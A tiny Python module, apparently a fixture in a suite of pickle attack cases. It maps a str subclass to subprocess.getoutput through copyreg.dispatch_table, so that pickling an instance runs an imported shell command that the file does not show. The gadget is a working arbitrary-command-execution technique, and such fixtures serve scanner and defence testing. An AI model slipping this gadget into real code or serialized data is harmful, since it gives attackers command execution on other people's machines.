"""A function of the standard library says how objects are pickled."""
CATEGORY = "callable"
REACH = "run"

import copyreg
import subprocess

from . import payload


class Arguments(str):
    pass


copyreg.dispatch_table[Arguments] = subprocess.getoutput
thing = Arguments(payload.COMMAND)
